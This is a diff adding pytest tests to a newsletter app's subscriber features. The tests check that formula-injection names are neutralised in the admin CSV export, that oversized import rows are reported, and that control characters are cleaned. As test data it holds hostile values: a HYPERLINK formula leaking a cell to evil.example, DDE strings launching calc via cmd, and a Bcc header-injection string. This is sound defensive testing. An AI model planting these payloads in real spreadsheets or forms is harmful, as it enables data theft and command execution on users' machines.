@@ -3,6 +3,8 @@ login and CSRF, issues and items on disk, print preview, sending, subscribers.""
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 import time
 import tomllib
@@ -535,6 +537,84 @@ def test_subscribers_add_search_import_export_suppress(editor: TestClient, root:
     detail = lxml_html.fromstring(editor.get(f"/admin/subscribers/{bob.id}").text)
     actions = [tr.xpath("td")[1].text_content() for tr in detail.xpath("//tbody/tr")]
     assert actions == ["import", "complaint"]
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("https://evil.example/?d="&A2,"Open")',
+        "+cmd|' /C calc'!A0",
+        "-1+1",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",  # cleaned to "=1+1" by the form: still a formula
+        "\r=1+1",
+    ],
+)
+def test_a_formula_signed_up_on_the_public_form_is_text_in_the_admin_export(
+    root: Path, confirm_sink, name: str
+) -> None:
+    point_smtp_at(root, confirm_sink.port)
+    with TestClient(create_app(root), base_url="https://bulletin.example.org") as c:
+        signed_up = c.post("/subscribe", data={"email": "mallory@example.net", "name": name})
+        assert signed_up.status_code == 200
+        assert log_in(c).status_code == 200
+        export = c.get("/admin/subscribers/export.csv")
+    (row,) = [r for r in csv.DictReader(io.StringIO(export.text)) if r["email"].endswith("net")]
+    assert row["name"] == "'" + name.strip()
+    for cell in row.values():
+        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
+
+
+def test_admin_import_lists_an_oversized_field_and_every_other_bad_row(
+    editor: TestClient, root: Path
+) -> None:
+    huge = "x" * 200_000  # over the csv module's 131,072-character field limit
+    csv_text = (
+        f"email,name\nada@example.org,Ada\nbob@example.org,{huge}\n"
+        f'carol@example.org,"{huge}"\nnot-an-address,X\ndave@example.org,{"d" * 5000}\n'
+        "erin@example.org,Erin\n"
+    )
+    report = editor.post(
+        "/admin/subscribers/import",
+        data={"csrf": csrf(editor, "/admin/subscribers"), "confirmed": "yes"},
+        files={"file": ("list.csv", csv_text.encode(), "text/csv")},
+    )
+    assert report.status_code == 200
+    doc = lxml_html.fromstring(report.text)
+    rows = [
+        [c.text_content() for c in tr.xpath("td")]
+        for tr in doc.xpath("//section[@class='report']//tbody/tr")
+    ]
+    assert [r[0] for r in rows] == ["3", "4", "5", "6"]
+    assert "longer than 131,072 characters" in rows[0][2] and rows[1][2] == rows[0][2]
+    assert "the name is 5,000 characters long" in rows[3][2]
+    assert "Imported 2 address(es); 4 row(s) skipped." in report.text
+    store = open_store(load_publication(root))
+    assert sorted(s.email for s in subs.iter_subscribers(store)) == [
+        "ada@example.org",
+        "erin@example.org",
+    ]
+
+
+def test_admin_add_refuses_a_long_name_and_cleans_control_characters(
+    editor: TestClient, root: Path
+) -> None:
+    token = csrf(editor, "/admin/subscribers")
+    refused = editor.post(
+        "/admin/subscribers/add",
+        data={"csrf": token, "email": "ada@example.org", "name": "a" * 10_000, "confirmed": "yes"},
+    )
+    assert refused.status_code == 400
+    assert "the name is 10,000 characters long" in refused.text
+    for i, name in enumerate(["Eve\r\nBcc: evil@example.net", "Eve\x1b[2J", "Eve\u2028X"]):
+        added = editor.post(
+            "/admin/subscribers/add",
+            data={"csrf": token, "email": f"e{i}@example.org", "name": name, "confirmed": "yes"},
+        )
+        assert added.status_code == 200
+    store = open_store(load_publication(root))
+    names = [s.name for s in subs.iter_subscribers(store)]
+    assert names == ["Eve Bcc: evil@example.net", "Eve [2J", "Eve X"]
 
 
 def test_public_endpoints_still_served(client: TestClient) -> None:
